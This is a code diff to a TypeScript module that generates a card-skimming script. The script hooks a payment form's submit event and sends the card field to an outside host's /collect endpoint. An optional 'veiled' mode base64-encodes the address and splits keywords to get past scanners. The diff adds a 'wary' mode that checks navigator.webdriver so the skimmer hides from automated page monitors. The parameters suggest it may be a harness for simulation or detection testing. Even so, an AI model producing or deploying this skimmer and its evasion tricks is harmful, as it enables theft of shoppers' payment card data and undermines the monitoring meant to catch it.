@@ -36,15 +36,17 @@ export function rentedHost(
 /**
  * The program: on sending the payment form it takes the card field and sends it off, in `permille`
  * of cases. Below stealth 0.4 it is written plainly; above, every word that a scanner would look
- * for is put together at run time.
+ * for is put together at run time. A wary one keeps still in a browser that is driven by a program,
+ * as a page monitor's is.
  */
-export function skimmer(host: string, permille: number, stealth: number): string {
+export function skimmer(host: string, permille: number, stealth: number, wary = false): string {
   const share = (permille / 1000).toFixed(2)
-  return stealth < 0.4 ? plain(host, share) : veiled(host, share)
+  const guard = wary ? '  if (navigator.webdriver) return;\n' : ''
+  return stealth < 0.4 ? plain(host, share, guard) : veiled(host, share, guard)
 }
-function plain(host: string, share: string): string {
+function plain(host: string, share: string, guard: string): string {
   return `(function () {
-  var form = document.querySelector('form[data-pay]');
+${guard}  var form = document.querySelector('form[data-pay]');
   if (!form) return;
   form.addEventListener('submit', function () {
     if (Math.random() >= ${share}) return;
@@ -54,10 +56,10 @@ function plain(host: string, share: string): string {
 })();
 `
 }
-function veiled(host: string, share: string): string {
+function veiled(host: string, share: string, guard: string): string {
   const address = btoa(`https://${host}/collect`)
   return `(function () {
-  var u = atob('${address}');
+${guard}  var u = atob('${address}');
   var f = document.querySelector('form[data-' + 'pay]');
   if (!f) return;
   f.addEventListener(['sub', 'mit'].join(''), function () {
